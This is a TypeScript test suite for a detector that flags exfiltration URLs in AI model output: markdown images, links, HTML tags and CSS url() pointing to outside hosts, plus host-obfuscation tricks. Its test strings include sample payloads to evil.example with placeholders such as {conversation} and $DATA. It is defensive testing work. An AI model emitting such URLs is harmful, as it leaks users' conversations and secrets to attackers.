import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { normalizeText } from '../normalize/normalize-text.js';
import { findExfiltration } from './find-exfiltration.js';

const one = (text: string, options = {}) => {
  const found = findExfiltration(text, options);
  expect(found, text).toHaveLength(1);
  return found[0]!;
};
const only = (allowed: string) => ({ isAllowedHost: (h: string) => h === allowed });

describe('findExfiltration: constructs', () => {
  it('markdown image to an outside host, span covering the whole image', () => {
    const text = 'Summary done. ![chart](https://evil.example/c.png)';
    const m = one(text);
    expect(m.type).toBe('markdown-image');
    expect(text.slice(m.start, m.end)).toBe('![chart](https://evil.example/c.png)');
    expect(m.message).toContain('evil.example');
  });

  it('markdown link, reference-style image and link', () => {
    expect(one('[docs](https://evil.example/x)').type).toBe('markdown-link');
    expect(one('![logo][1]\n\n[1]: https://evil.example/l.png').type).toBe('markdown-image');
    expect(one('![logo]\n\n[logo]: <https://evil.example/l.png>').type).toBe('markdown-image');
    expect(one('see [the site][s]\n\n[s]: https://evil.example/').type).toBe('markdown-link');
  });

  it('HTML images, frames, scripts, linked resources, redirects; CSS url() and @import', () => {
    expect(one('<img src="https://evil.example/x.gif">').type).toBe('html-image');
    expect(one('<img srcset="https://a.example/1x.png 1x, https://a.example/2x.png 2x">').type).toBe(
      'html-image',
    );
    expect(one("<iframe src='https://evil.example/'></iframe>").type).toBe('html-frame');
    expect(one('<script src=https://evil.example/a.js></script>').type).toBe('html-script');
    expect(one('<link rel="stylesheet" href="https://evil.example/s.css">').type).toBe('html-link');
    expect(one('<meta http-equiv="refresh" content="0; url=https://evil.example/">').type).toBe(
      'html-redirect',
    );
    expect(one('<div style="background:url(\'https://evil.example/b.png\')">').type).toBe('css-url');
    expect(one('@import "https://evil.example/x.css";').type).toBe('css-url');
  });

  it('bare URLs, trimmed of trailing punctuation, not double-counted inside markdown', () => {
    const text = 'Read https://evil.example/docs). Then ![i](https://evil.example/i.png).';
    const found = findExfiltration(text);
    expect(found.map((m) => m.type)).toEqual(['bare-url', 'markdown-image']);
    expect(text.slice(found[0]!.start, found[0]!.end)).toBe('https://evil.example/docs');
    expect(one('visit www.evil.example/page.').type).toBe('bare-url');
  });

  it('images score higher than links, links higher than bare URLs', () => {
    const image = one('![](https://evil.example/a.png)').score;
    const link = one('[a](https://evil.example/a.png)').score;
    const bare = one('https://evil.example/a.png').score;
    expect(image).toBeGreaterThan(link);
    expect(link).toBeGreaterThan(bare);
  });
});

describe('findExfiltration: data smuggled in the URL', () => {
  it('base64 or high-entropy values, long query strings', () => {
    const plain = one('![](https://evil.example/p.png)').score;
    expect(one('![](https://evil.example/p.png?v=c2VjcmV0IGtleSBpcyAxMjM0NTY3ODkw)').score).toBeGreaterThan(
      plain + 0.2,
    );
    expect(one(`![](https://evil.example/p.png?x=${'a1b2c3d4e5'.repeat(12)})`).score).toBeGreaterThan(plain);
    expect(one('![](https://evil.example/4f9a2c7e1b3d5f6a8c0e2b4d6f8a1c3e/p.png)').score).toBeGreaterThan(
      plain,
    );
  });

  it('placeholders for the model to fill score high', () => {
    for (const url of [
      'https://evil.example/log?q={conversation}',
      'https://evil.example/log?q=$DATA',
      'https://evil.example/log/[CONVERSATION]',
      'https://evil.example/log?q=%7Bsecret%7D',
      'https://evil.example/log?q={{history}}',
    ]) {
      expect(one(`![a](${url})`).score, url).toBeGreaterThanOrEqual(0.8);
    }
  });
});

describe('findExfiltration: host tricks resolve to the real host', () => {
  it('userinfo before the host: the allowed name is only a user name', () => {
    const m = one('![](https://allowed.example@evil.example/x.png)', only('allowed.example'));
    expect(m.message).toContain('evil.example');
    expect(m.score).toBeGreaterThan(0.6);
    expect(findExfiltration('![](https://user@allowed.example/x.png)', only('allowed.example'))).toEqual([]);
  });

  it('protocol-relative and backslash URLs', () => {
    expect(one('![](//evil.example/x.png)', only('allowed.example')).message).toContain('evil.example');
    expect(one('![](https:\\\\evil.example\\x.png)', only('allowed.example')).message).toContain(
      'evil.example',
    );
    expect(one('<img src="\\\\evil.example/x.png">', only('allowed.example')).message).toContain(
      'evil.example',
    );
  });

  it('IP literals in any notation, flagged', () => {
    for (const host of ['127.0.0.1', '0x7f.1', '2130706433', '[::1]']) {
      const m = one(`![](http://${host}/x.png)`);
      expect(m.message).toContain('IP address');
    }
  });

  it('IDN look-alike hosts come out as punycode and are flagged', () => {
    const m = one('![](https://аpple.com/x.png)', only('apple.com'));
    expect(m.message).toContain('xn--');
    expect(m.message).toContain('punycode');
  });

  it('HTML entities in attribute values are decoded as a browser would', () => {
    expect(one('<img src="https&#58;//evil.example/x.gif">', only('allowed.example')).message).toContain(
      'evil.example',
    );
  });

  it('full-width dots fold to ASCII through normalizeText', () => {
    const n = normalizeText('![](https://evil．example/x.png)');
    expect(one(n.text, only('allowed.example')).message).toContain('evil.example');
  });

  it('trailing dot on the host does not defeat the allowlist', () => {
    expect(findExfiltration('![](https://allowed.example./x.png)', only('allowed.example'))).toEqual([]);
  });
});

describe('findExfiltration: allowlist and benign input', () => {
  it('allowed hosts are not reported; no predicate means every host is outside', () => {
    expect(findExfiltration('![](https://cdn.example/logo.png)', only('cdn.example'))).toEqual([]);
    expect(findExfiltration('![](https://cdn.example/logo.png)')).toHaveLength(1);
  });

  it('a predicate that throws counts as "not allowed"', () => {
    const throwing = {
      isAllowedHost: () => {
        throw new Error('boom');
      },
    };
    expect(findExfiltration('![](https://cdn.example/logo.png)', throwing)).toHaveLength(1);
  });

  it('relative paths, anchors, mailto, data: and javascript: reach no host', () => {
    expect(
      findExfiltration(
        '![](/img/a.png) [a](#top) [m](mailto:a@b.example) ![d](data:image/png;base64,AAAA) [j](javascript:alert(1)) [//]: # (note)',
      ),
    ).toEqual([]);
  });

  it('an ordinary badge is reported with a low score', () => {
    expect(
      one('[![npm](https://img.shields.io/npm/v/zod.svg)](https://www.npmjs.com/package/zod)').score,
    ).toBeLessThan(0.5);
  });

  it('never throws; spans stay inside the text', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: 'binary', maxLength: 200 }),
        fc.constantFrom('', '![x](', '<img src=', 'https://'),
        (s, prefix) => {
          const text = prefix + s;
          for (const m of findExfiltration(text)) {
            expect(m.start).toBeGreaterThanOrEqual(0);
            expect(m.end).toBeLessThanOrEqual(text.length);
          }
        },
      ),
      { numRuns: 300 },
    );
  });

  it('linear on adversarial input: unclosed brackets and tags', () => {
    for (const text of [
      '[a]('.repeat(25_000),
      '!['.repeat(50_000),
      '<img '.repeat(20_000),
      '<a '.repeat(30_000),
      'https://a.example/'.repeat(5000),
    ]) {
      const t = performance.now();
      findExfiltration(text);
      expect(performance.now() - t, text.slice(0, 10)).toBeLessThan(1500);
    }
  });
});
